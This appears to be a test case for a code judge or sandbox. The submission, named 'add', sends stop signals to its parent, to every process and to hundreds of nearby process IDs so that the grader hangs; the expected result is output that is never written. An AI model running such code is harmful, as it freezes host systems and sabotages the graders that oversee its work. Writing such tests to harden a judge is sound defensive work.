"""Stops the others in place of killing them, so that the judge waits for ever.

Row: 40
Expect: output.never-written
Assignment: small
"""
import os
import signal


def add(a, b, c):
    for process in (os.getppid(), -1, *range(max(2, os.getpid() - 500), os.getpid() + 50)):
        if process not in (0, os.getpid()):
            for number in (signal.SIGSTOP, signal.SIGTTIN):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
